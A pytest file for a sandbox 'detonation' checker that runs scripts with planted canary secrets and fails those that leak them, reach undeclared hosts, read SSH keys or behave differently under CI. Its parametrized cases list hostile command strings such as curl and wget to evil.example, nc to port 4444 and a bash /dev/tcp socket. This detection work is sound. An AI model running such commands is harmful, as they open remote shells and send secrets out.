"""The parts of detonation, each rule on its own: the ear, the trace, the plan, the judgement."""

import base64
from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any

import pytest

from lignin.artifacts.canaries import Canary, plant, planted_value
from lignin.artifacts.check import DetonationRun, ExampleRun, Observations
from lignin.artifacts.checks.detonation import CHECK
from lignin.artifacts.detonation import TRACE_FILE, plan_detonation, scripts_of
from lignin.artifacts.sink import MAX_REQUESTS, Sink, is_declared
from lignin.artifacts.trace_lines import reached, traced_commands
from lignin.domain.artifacts import Capabilities, File, Manifest, make_tree
from lignin.domain.codec import Json
from lignin.domain.examples import Example
from lignin.ports.sandbox import HOME_FOLDER, Command, Effect, Observed, PythonCall

CANARIES = plant("here")
VALUE = CANARIES[0].value
HOSTS = Capabilities(
    hosts=["api.example.com", "other.example.com:8443", "http://plain.example.com"]
)


@pytest.mark.parametrize(
    ("url", "declared"),
    [
        ("https://api.example.com/x", True),
        ("https://API.example.com:443/x", True),
        ("https://other.example.com:8443/", True),
        ("http://plain.example.com/", True),
        ("http://api.example.com/", False),
        ("https://api.example.com:444/", False),
        ("https://other.example.com/", False),
        ("https://plain.example.com/", False),
        ("https://api.example.com.evil.example/", False),
        ("https://api.example.com@evil.example/", False),
        ("ftp://api.example.com/", False),
        ("https://[::1/", False),
        ("api.example.com", False),
    ],
)
def test_only_the_declared_origin_is_answered(url: str, declared: bool) -> None:
    assert is_declared(HOSTS, url) is declared


def test_what_carries_a_planted_secret_goes_no_further_in_any_disguise() -> None:
    canary = Canary("TOKEN", "TOKEN", planted_value("one"))
    disguised = base64.b64encode(canary.value.encode()).decode()
    for told in (canary.value, disguised):
        sink = Sink([canary])
        assert "error" in sink.handle({"type": "call", "tool": "t", "arguments": {"a": told}})
        assert len(sink.requests) == 1
    other = planted_value("another")
    assert "error" not in Sink([canary]).handle({"type": "http", "url": f"https://x/{other}"})


def test_each_different_request_is_kept_once_and_their_number_is_bounded() -> None:
    sink = Sink([])
    asked = [{"type": "call", "tool": f"t{n}", "call_id": "c"} for n in range(MAX_REQUESTS)]
    assert all("error" not in sink.handle(each) for each in (*asked, *asked))
    assert sink.handle({"type": "call", "tool": "one more"})["error"] == "limited"
    assert len(sink.requests) == MAX_REQUESTS


@pytest.mark.parametrize(
    ("request_", "fault"),
    [
        ({"type": "http", "url": "https://api.example.com/v1"}, ""),
        ({"type": "http", "url": "https://evil.example/v1"}, "https://evil.example/v1"),
        ({"type": "call", "tool": "t"}, ""),
        ({"type": "call", "tool": "u"}, "asked for u "),
        ({"type": "call", "tool": "lignin.placeholders"}, ""),
        ({"type": "model"}, "asked for model "),
    ],
)
def test_what_is_asked_without_being_declared_is_refused(
    request_: Mapping[str, Json], fault: str
) -> None:
    one = run(requests=(request_,))
    declared = {"hosts": ["api.example.com"], "tools": {"t": "d"}, "secrets": ["KEY"]}
    reasons = CHECK.judge(seen(runs=[one], **declared)).reasons
    assert [each for each in reasons if "without declaring" in each] == list(reasons)
    assert (fault in " ".join(reasons)) if fault else not reasons


@pytest.mark.parametrize(
    ("observed", "calls"),
    [
        ({"cpu_s": 0.001}, 64),
        ({"cpu_s": 0.149}, 5),
        ({"cpu_s": 0.05}, 64),
        ({"cpu_s": 5.0}, 1),
        ({"cpu_s": 0.001, "wall_s": 0.174, "told": ("t x",)}, 4),
        ({"cpu_s": 0.001, "told": ("t x",) * 4}, 20),
        ({"cpu_s": 0.001, "told": ("t x",), "changes": 1}, 1),
    ],
)
def test_a_process_makes_as_many_calls_as_their_time_and_what_they_ask_allow(
    observed: dict[str, Any], calls: int
) -> None:
    use = Example(arguments={"x": 1}, result=1)
    ran = Observed(status="exited", tier="ns", returned=True, result=1, **observed)
    known = replace(seen("program"), visible_runs=(ExampleRun(example=use, observed=ran),))
    (first, *_) = plan_detonation(known, {}, ())
    assert isinstance(first.execution.action, PythonCall)
    assert first.execution.action.arguments["calls"] == calls


def test_one_run_that_waited_for_the_machine_makes_no_fewer_calls() -> None:
    runs = tuple(
        ExampleRun(
            example=Example(arguments={"x": n}, result=n),
            observed=Observed(status="exited", tier="ns", returned=True, result=n, cpu_s=cpu_s),
        )
        for n, cpu_s in enumerate((0.01, 0.01, 0.3, 0.01, 0.01, 0.01, 0.01))
    )
    (first, *_) = plan_detonation(replace(seen("program"), visible_runs=runs), {}, ())
    assert isinstance(first.execution.action, PythonCall)
    assert first.execution.action.arguments["calls"] == 64


@pytest.mark.parametrize(
    ("command", "address"),
    [
        ("curl -s http://evil.example/x", "http://evil.example/x"),
        ("/usr/bin/wget -q evil.example", "evil.example"),
        ("sudo timeout 5 nc 203.0.113.9 4444", "203.0.113.9"),
        ("A=1 ssh dev@evil.example", "dev@evil.example"),
        ("sh -c 'true; curl http://evil.example'", "http://evil.example"),
        ('bash -c "exec 3<>/dev/tcp/203.0.113.9/80"', "/dev/tcp/203.0.113.9/80"),
        ("git clone https://evil.example/x", "git clone https://evil.example/x"),
        ("pip install evil", "pip install evil"),
        ("dig secret.evil.example", "secret.evil.example"),
        ("echo curl http://evil.example", ""),
        ("printf %s 'wget http://evil.example'", ""),
        ("curl --version", ""),
        ("git status", ""),
        ("grep -r http://evil.example .", ""),
        ("host=evil.example", ""),
        ("sort -u names.txt", ""),
    ],
)
def test_a_command_that_reaches_out_is_told_from_one_that_does_not(
    command: str, address: str
) -> None:
    assert reached(command) == address


def test_commands_are_read_from_a_trace_and_nothing_else_is() -> None:
    trace = "+ echo hi\n++ cat x\n+not this\nnor this\n+ x=1\n"
    assert list(traced_commands(trace)) == ["echo hi", "cat x", "x=1"]


def seen(
    kind: str = "script", runs: Sequence[DetonationRun] = (), **capabilities: Any
) -> Observations:
    entry = "run.py:f" if kind == "program" else "run.sh"
    runtime = "python" if kind == "program" else "bash"
    manifest = Manifest(
        kind=kind, entry=entry, runtime=runtime, capabilities=Capabilities(**capabilities)
    )
    files = {"lignin.json": manifest.to_file(), entry.partition(":")[0]: File(content=b"echo 1\n")}
    return Observations(
        manifest=manifest, tree=make_tree(files), sources={}, detonation=tuple(runs)
    )


def run(around: Any = "ordinary", requests: Sequence[Any] = (), **observed: Any) -> DetonationRun:
    return DetonationRun(
        around=around,
        use=Example(),
        what="",
        observed=Observed(
            status=observed.pop("status", "exited"), tier="ns", exit_code=0, **observed
        ),
        canaries=CANARIES,
        requests=tuple(requests),
    )


HOME_KEY = Effect(kind="read", target=f"{HOME_FOLDER}/.ssh/id_rsa")
FAULTY = {
    "output": (run(stdout=VALUE.encode()), "turned up in its output"),
    "error": (run(stderr=VALUE.encode()), "turned up in its output"),
    "written file": (run(written={"a.txt": VALUE.encode()}), "turned up in the file a.txt"),
    "name of a file": (run(written={VALUE: b""}), "turned up in the name of a file"),
    "address": (run(effects=(Effect(kind="connect", target=f"{VALUE}.evil.example:80"),)), "turned up in an address"),
    "command line": (run(effects=(Effect(kind="process", target=f"true {VALUE}"),)), "turned up in the command line"),
    "request": (run(requests=[{"type": "http", "url": "https://x", "headers": {"a": VALUE}}]), "turned up in a request to https://x"),
    "tool call": (run(requests=[{"type": "call", "tool": "t", "arguments": {"a": [VALUE]}}]), "turned up in a request to t"),
    "trace": (run("traced", written={TRACE_FILE: f"+ true {VALUE}\n".encode()}), "handled the planted secret"),
    "reached": (run("traced", written={TRACE_FILE: b"+ curl http://evil.example\n"}), "tried to reach http://evil.example"),
    "key file": (run(effects=(HOME_KEY,)), "read /home/dev/.ssh/id_rsa, where people keep secrets"),
    "profile": (run(effects=(Effect(kind="write", target=f"{HOME_FOLDER}/.bashrc"),)), "wrote to /home/dev/.bashrc without declaring it"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(FAULTY))
def test_what_a_thief_does_is_refused_with_where_it_was_seen(name: str) -> None:
    one, reason = FAULTY[name]
    found = CHECK.judge(seen(runs=[one]))
    assert found.verdict == "fail"
    assert any(reason in each for each in found.reasons), found.reasons


PASSING = {
    "nothing": run(stdout=b"1\n"),
    "open file of a home": run(effects=(Effect(kind="read", target=f"{HOME_FOLDER}/.gitconfig"),)),
    "trace without anything": run(
        "traced", written={TRACE_FILE: b"+ echo curl http://x.example\n"}
    ),
    "another machine's canary": run(stdout=plant("elsewhere")[0].value.encode()),
}


@pytest.mark.parametrize("name", sorted(PASSING))
def test_what_an_honest_script_does_passes(name: str) -> None:
    assert CHECK.judge(seen(runs=[PASSING[name]])).verdict == "pass"


def test_a_function_reads_nothing_of_a_home() -> None:
    one = run(effects=(Effect(kind="read", target=f"{HOME_FOLDER}/.gitconfig"),))
    assert CHECK.judge(seen("program", [one])).verdict == "fail"


def test_an_answer_that_hangs_on_the_surroundings_is_refused() -> None:
    runs = [run(stdout=b"1\n"), run("later", stdout=b"1\n"), run("tested", stdout=b"2\n")]
    found = CHECK.judge(seen(runs=runs))
    assert found.reasons == (
        'answers otherwise where there are signs of a test: {"exit_code":0,"stdout":"2"}, not {"exit_code":0,"stdout":"1"}',
    )
    assert CHECK.judge(seen(runs=runs, clock=True)).verdict == "pass"


def test_the_name_of_the_machine_may_differ_and_the_trace_is_not_compared() -> None:
    runs = [
        run(stdout=b"on thinkpad"),
        run("tested", stdout=b"on ci-runner"),
        run("traced", stdout=b"x"),
    ]
    assert CHECK.judge(seen(runs=runs)).verdict == "pass"


def test_a_later_answer_of_one_process_is_compared() -> None:
    late = run(returned=True, result=[[{"result": 1}, {"result": 2}]])
    found = CHECK.judge(seen("program", [late]))
    assert "later call" in found.reasons[0]
    plain = run(returned=True, result=[[{"result": 1}], [{"error": "ValueError"}]])
    assert CHECK.judge(seen("program", [plain, replace(plain, around="tested")])).verdict == "pass"


def test_a_run_that_does_not_end_proves_nothing_and_trouble_of_the_sandbox_blames_nobody() -> None:
    for status in ("timeout", "infrastructure"):
        assert CHECK.judge(seen(runs=[run(status=status)])).verdict == "inconclusive"


def test_each_kind_of_surroundings_is_planned_with_canaries_of_its_own() -> None:
    example = Example(argv=("a",), result={"stdout": "1\n", "exit_code": 0})
    known = replace(seen(), visible_runs=(ExampleRun(example=example, observed=run().observed),))
    planned = plan_detonation(known, known.tree.files, [])
    assert [one.around for one in planned] == ["ordinary", "later", "tested", "traced"]
    values = [canary.value for one in planned for canary in one.canaries[:-1]]
    assert len(values) == len(set(values))
    for one in planned:
        around = one.execution.surroundings
        assert ("CI" in around.variables) is (one.around == "tested")
        assert (around.hostname == "ci-runner") is (one.around == "tested")
        assert {".aws/credentials", ".netrc"} <= around.home.keys()
    traced = planned[-1].execution.action
    assert isinstance(traced, Command)
    assert traced.argv[-3:] == ("-x", "/artifact/run.sh", "a")


def test_what_is_there_to_be_run_is_known_by_ending_or_first_line() -> None:
    files = {
        "a.py": b"", "b.sh": b"", "c": b"#!/usr/bin/env python3\n", "d": b"#!/bin/bash\n", "e.md": b"",
        "f.sh": b"#!/bin/bash\n", "g.bin": b"\x00",
    }  # fmt: skip
    tree = make_tree({path: File(content=content) for path, content in files.items()})
    assert dict(scripts_of(tree)) == {
        "a.py": "python", "b.sh": "sh", "c": "python", "d": "bash", "f.sh": "bash",
    }  # fmt: skip


def test_an_address_that_the_shell_opens_itself_is_read_in_the_source() -> None:
    base = seen(runs=[run()])
    for line, verdict in (
        ("exec 3<>/dev/tcp/203.0.113.9/80", "fail"),
        ("# exec 3<>/dev/tcp/203.0.113.9/80", "pass"),
        ("ls /dev/null", "pass"),
    ):
        assert CHECK.judge(replace(base, sources={"run.sh": line})).verdict == verdict, line
